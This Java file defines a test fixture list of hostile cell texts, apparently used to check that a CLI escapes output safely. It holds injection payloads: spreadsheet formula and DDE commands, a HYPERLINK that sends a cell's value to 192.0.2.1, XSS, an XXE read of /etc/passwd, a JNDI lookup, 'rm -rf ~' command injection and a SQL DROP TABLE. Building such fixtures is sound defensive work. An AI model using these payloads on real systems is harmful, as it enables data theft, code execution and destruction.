package vn.xeploai.cli;

import java.text.Normalizer;
import java.util.List;

/**
 * Texts that a clerk, a copy from elsewhere or an enemy may put into a cell. They name only the
 * address 192.0.2.1, which is nobody's (RFC 5737), and mark a browser that runs them.
 *
 * @param name what it is
 * @param text the text
 */
public record HostileText(String name, String text) {
  /** All of them. */
  public static final List<HostileText> ALL =
      List.of(
          new HostileText("a formula", "=1+1"),
          new HostileText("a formula with plus", "+1+1"),
          new HostileText("a formula with minus", "-1+1"),
          new HostileText("a formula with at", "@SUM(1,1)"),
          new HostileText("a tab before a formula", "\t=1+1"),
          new HostileText("a carriage return before a formula", "\r=1+1"),
          new HostileText("a line feed before a formula", "\n=1+1"),
          new HostileText("a tab within", "a\t=1+1"),
          new HostileText("a line feed within", "a\n=1+1"),
          new HostileText("a carriage return within", "a\r=1+1"),
          new HostileText("a full-width equals sign", "\uFF1D1+1"),
          new HostileText("a full-width plus", "\uFF0B1+1"),
          new HostileText("a full-width minus", "\uFF0D1+1"),
          new HostileText("a full-width at", "\uFF20SUM(1)"),
          new HostileText("dynamic data exchange", "=cmd|' /C calc'!A0"),
          new HostileText("dynamic data exchange after a plus", "+cmd|' /C calc'!A0"),
          new HostileText("a call", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")"),
          new HostileText("a web service", "=WEBSERVICE(\"http://192.0.2.1/\")"),
          new HostileText("a formula behind a quote", "\"=1+1\""),
          new HostileText("a formula behind an apostrophe", "'=1+1"),
          new HostileText("a formula behind a separator", "a,=1+1"),
          new HostileText("a formula behind another separator", "a;=1+1"),
          new HostileText("two minus signs", "--1"),
          new HostileText("a number with signs", "-1.2.3"),
          new HostileText("a script", "<script>window.__pwned=1</script>"),
          new HostileText(
              "a script that ends a script", "</script><script>window.__pwned=2</script>"),
          new HostileText("a script in capitals", "<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>"),
          new HostileText("a broken image", "<img src=x onerror=window.__pwned=3>"),
          new HostileText("a drawing that loads", "<svg onload=window.__pwned=4>"),
          new HostileText(
              "a drawing that animates",
              "<svg><animate onbegin=window.__pwned=5 attributeName=x dur=1s>"),
          new HostileText("a frame", "<iframe src=javascript:parent.__pwned=6></iframe>"),
          new HostileText(
              "a frame with a document",
              "<iframe srcdoc='<script>parent.__pwned=7</script>'></iframe>"),
          new HostileText("a link that runs", "<a href=\"javascript:window.__pwned=8\">x</a>"),
          new HostileText("a link with data", "<a href='data:text/html,<script>1</script>'>x</a>"),
          new HostileText("an end of an attribute", "\" onclick=\"window.__pwned=9"),
          new HostileText(
              "an end of another attribute", "' onfocus='window.__pwned=10' autofocus='"),
          new HostileText(
              "an end of a bare attribute", "x onmouseover=window.__pwned=11 style=position:fixed"),
          new HostileText("a tag without an end", "<img src=\"http://192.0.2.1/"),
          new HostileText("an end of the title", "</title><h6>x</h6>"),
          new HostileText("an end of a style", "</style><style>*{display:none}</style>"),
          new HostileText("an end of a text area", "</textarea><script>window.__pwned=12</script>"),
          new HostileText("an end of a list", "</option></select><b>x</b>"),
          new HostileText("an end of a fold", "</summary></details></div><b>x</b>"),
          new HostileText("a style sheet", "<link rel=stylesheet href=//192.0.2.1/x.css>"),
          new HostileText("another address for all", "<base href=//192.0.2.1/>"),
          new HostileText(
              "a way elsewhere", "<meta http-equiv=refresh content=0;url=//192.0.2.1/>"),
          new HostileText("a form", "<form action=//192.0.2.1/><input name=x></form>"),
          new HostileText("an object", "<object data=//192.0.2.1/></object>"),
          new HostileText("a comment", "<!-- x"),
          new HostileText("an end of a comment", "--><b>x</b><!--"),
          new HostileText("an end of character data", "]]><b>x</b>"),
          new HostileText("character data", "<![CDATA[<b>x</b>]]>"),
          new HostileText("a processing instruction", "<?xml version=\"1.0\"?><?php echo 1 ?>"),
          new HostileText(
              "an external entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
          new HostileText("entities", "&lt;b&gt; &#60;b&#62; &amp;amp; &nbsp;"),
          new HostileText("a lone ampersand", "a&b&c=d"),
          new HostileText("a tag of a template", "{{script}} {{t.summary}}"),
          new HostileText("an unescaped tag of a template", "{{{style}}} {{&script}}"),
          new HostileText("a section of a template", "{{#subjects}}x{{/subjects}}{{>page}}"),
          new HostileText("another opening of a template", "{{=<% %>=}}<%script%>"),
          new HostileText("a place of a message", "{0} {1} {99}"),
          new HostileText("a quoted place of a message", "'{0}' {0,number,#} {"),
          new HostileText("an apostrophe of a message", "x'' 'y"),
          new HostileText("a place of a print", "%s%n%d%1$s%"),
          new HostileText("a look-up", "${jndi:ldap://192.0.2.1/x} ${env:PATH}"),
          new HostileText("an expression", "#{1+1} ${1+1} *{1+1} @{1+1}"),
          new HostileText("a command", "`id` $(id) ; rm -rf ~ | cat &"),
          new HostileText("a query", "' OR 1=1; DROP TABLE members; --"),
          new HostileText("a path upwards", "../../../../etc/passwd"),
          new HostileText("a path of Windows", "..\\..\\C:\\con\\nul"),
          new HostileText("a device", "CON"),
          new HostileText("a share", "\\\\192.0.2.1\\x"),
          new HostileText("percent escapes", "%3Cscript%3E%00%0A%2e%2e"),
          new HostileText("escapes of a program", "\\u003cscript\\u003e \\x3c \\0 \\n"),
          new HostileText("an escape of NUL", "\\u0000"),
          new HostileText("an escape of a spreadsheet", "_x000D__x003D_1+1_x0000_"),
          new HostileText("an escape of a surrogate", "_xD800__xDFFF_"),
          new HostileText("a word for nothing", "null"),
          new HostileText("another word for nothing", "~"),
          new HostileText("a tag of YAML", "!!java.lang.Runtime x: &a [*a]"),
          new HostileText("a comment of YAML", "# x: y - z"),
          new HostileText("JSON", "\",\"level\":\"HTXSNV\"}]"),
          new HostileText("a bell and a null key", "a\u0007\u0001b"),
          new HostileText("a colour of a terminal", "\u001B[31mx\u001B[2J"),
          new HostileText("a control sequence in one character", "a\u009B2Jb"),
          new HostileText(
              "a link of a terminal", "\u001B]8;;http://192.0.2.1/\u0007x\u001B]8;;\u0007"),
          new HostileText("a title of a terminal", "\u001B]0;x\u0007"),
          new HostileText("backspaces", "abc\b\b\bx"),
          new HostileText("a delete", "a\u007Fb"),
          new HostileText("an override", "\u202Ecba\u202C"),
          new HostileText("an isolate", "\u2066x\u2067y\u2069\u2068"),
          new HostileText("an embedding", "\u202Ax\u202By"),
          new HostileText("marks of direction", "\u200Ex\u200F\u061C"),
          new HostileText("no width", "a\u200B\u200C\u200D\u2060b"),
          new HostileText("a byte order mark within", "a\uFEFFb"),
          new HostileText("a byte order mark before a formula", "\uFEFF=1+1"),
          new HostileText("a soft hyphen", "a\u00ADb"),
          new HostileText("no break", "a\u00A0b\u202Fc"),
          new HostileText("line and paragraph separators", "a\u2028b\u2029c\u0085d\u000Be\fg"),
          new HostileText("no characters", "a\uFFFE\uFFFF\uFDD0b"),
          new HostileText("private use", "a\uE000\uDBFF\uDFFDb"),
          new HostileText("tags that are not seen", "a\uDB40\uDC01\uDB40\uDC41\uDB40\uDC7Fb"),
          new HostileText("shapes of a letter", "a\uFE0F\uDB40\uDD00b"),
          new HostileText(
              "letters from right to left",
              "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u05E2\u05D1\u05E8\u05D9\u05EA"),
          new HostileText("a flood of marks", "a" + "\u0301\u0323\u0489".repeat(100)),
          new HostileText("a long word", "W".repeat(1000)),
          new HostileText("many openings", "<".repeat(500)),
          new HostileText("many pictures", "\uD83D\uDE00".repeat(500)),
          new HostileText("a mark alone", "\u0301=1+1"),
          new HostileText("a letter in two ways", "e\u0302\u0301 \u1EBF"),
          new HostileText("a family", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67"),
          new HostileText("look-alikes", "\u0430dmin \u04E8 \u039F"));

  /** The text as the facts hold it: composed, without blanks around it. */
  public String held() {
    String lines = Normalizer.normalize(text, Normalizer.Form.NFC).replaceAll("\r\n?", "\n");
    return lines.replaceAll("^[\\s\uFEFF]+|[\\s\uFEFF]+$", "");
  }
}
